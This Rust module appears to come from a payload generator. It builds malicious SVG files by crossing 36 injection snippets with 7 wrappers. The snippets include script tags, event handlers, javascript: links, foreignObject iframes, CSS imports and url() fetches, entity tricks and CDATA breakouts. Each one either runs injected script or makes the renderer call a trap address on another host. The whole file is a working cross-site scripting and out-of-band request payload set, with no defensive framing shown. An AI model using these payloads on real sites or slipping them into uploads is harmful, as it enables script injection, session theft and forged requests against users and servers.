//! Drawings (SVG) that are programs, or that ask another host for something.

use super::{Mark, Payloads};

/// What stands in the drawing; `@` is what runs, `%` an address of the trap.
const INSIDE: [&str; 36] = [
    "<script>@</script>",
    "<script type=\"text/javascript\"><![CDATA[@]]></script>",
    "<script href=\"%\"/>",
    "<script xlink:href=\"%\"/>",
    "<s:script xmlns:s=\"http://www.w3.org/2000/svg\">@</s:script>",
    "<x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">@</x:script>",
    "<script xmlns=\"http://www.w3.org/1999/xhtml\">@</script>",
    "<rect width=\"9\" height=\"9\" onload=\"@\" onclick=\"@\"/>",
    "<rect width=\"9\" height=\"9\" ONLOAD=\"@\"/>",
    "<rect width=\"9\" height=\"9\" x:onload=\"@\" xmlns:x=\"x\"/>",
    "<image href=\"x:x\" onerror=\"@\"/>",
    "<image href=\"%\" width=\"9\" height=\"9\"/>",
    "<image xlink:href=\"%\" width=\"9\" height=\"9\"/>",
    "<use href=\"%#x\"/>",
    "<use xlink:href=\"data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg' onload='@'/>#x\"/>",
    "<use x:href=\"%#x\" xmlns:x=\"http://www.w3.org/1999/xlink\"/>",
    "<a href=\"javascript:@\"><text y=\"9\">x</text></a>",
    "<a xlink:href=\"java&#10;script:@\"><text y=\"9\">x</text></a>",
    "<a><animate attributeName=\"href\" values=\"javascript:@\"/><text y=\"9\">x</text></a>",
    "<animate onbegin=\"@\" attributeName=\"x\" dur=\"1s\"/>",
    "<set attributeName=\"onload\" to=\"@\"/>",
    "<handler type=\"text/javascript\">@</handler>",
    "<foreignObject width=\"9\" height=\"9\"><body xmlns=\"http://www.w3.org/1999/xhtml\" onload=\"@\"><img src=\"%\"/></body></foreignObject>",
    "<foreignObject><iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"%\"/></foreignObject>",
    "<iframe xmlns=\"http://www.w3.org/1999/xhtml\" src=\"%\"/>",
    "<link xmlns=\"http://www.w3.org/1999/xhtml\" rel=\"stylesheet\" href=\"%\"/>",
    "<style>@import '%';</style>",
    "<style><![CDATA[*{background:url(%)}]]></style>",
    "<style>*{fill:u\\72l(%)}</style>",
    "<style>@font-face{font-family:x;src:url('%')}text{font-family:x}</style>",
    "<rect width=\"9\" height=\"9\" style=\"fill:url(%)\"/>",
    "<rect width=\"9\" height=\"9\" fill=\"url('%#x')\" filter=\"url(%#y)\"/>",
    "<filter id=\"f\"><feImage href=\"%\"/></filter><rect width=\"9\" height=\"9\" filter=\"url(#f)\"/>",
    "<g xml:base=\"%\"><use href=\"#x\"/></g>",
    "<text y=\"9\">&lt;script&gt;@&lt;/script&gt;<![CDATA[</text><script>@</script>]]></text>",
    "<title><![CDATA[</title></svg><script>@</script>]]></title>",
];

/// What stands around it; `¤` is where.
const AROUND: [&str; 7] = [
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" onload=\"@\">¤</svg>",
    "<?xml version=\"1.0\"?><?xml-stylesheet href=\"%\" type=\"text/css\"?><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">¤</svg>",
    "<!DOCTYPE svg PUBLIC \"x\" \"%\"><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">¤</svg>",
    "<!DOCTYPE svg [<!ENTITY e \"&#60;script>@&#60;/script>\"><!ATTLIST svg onload CDATA \"@\">]><svg xmlns=\"http://www.w3.org/2000/svg\">&e;¤</svg>",
    "<!--><script>@</script>--><svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:ev=\"http://www.w3.org/2001/xml-events\">¤</svg>",
    "<svg xmlns=\"http://www.w3.org/1999/xhtml\" xmlns:xlink=\"http://www.w3.org/1999/xlink\"><script>@</script>¤</svg>",
    "<svg xmlns=\"http://www.w3.org/2000/svg\" xmlns:xlink=\"http://www.w3.org/1999/xlink\">¤</svg><!-- <script>@</script> -->",
];

pub(super) fn add(drawings: &mut Payloads) {
    for (at, inside) in INSIDE.into_iter().enumerate() {
        for around in [AROUND[0], AROUND[1 + at % (AROUND.len() - 1)]] {
            drawings.add("drawing", |mark| filled(around, inside, mark));
        }
    }
}

fn filled(around: &str, inside: &str, mark: &Mark<'_>) -> String {
    let own = |text: &str| text.replace("@import", "\u{1}import").replace("@font", "\u{1}font");
    let put = |text: &str| {
        own(text).replace('%', &mark.url("drawing")).replace('@', &mark.run()).replace('\u{1}', "@")
    };
    put(around).replace('¤', &put(inside))
}
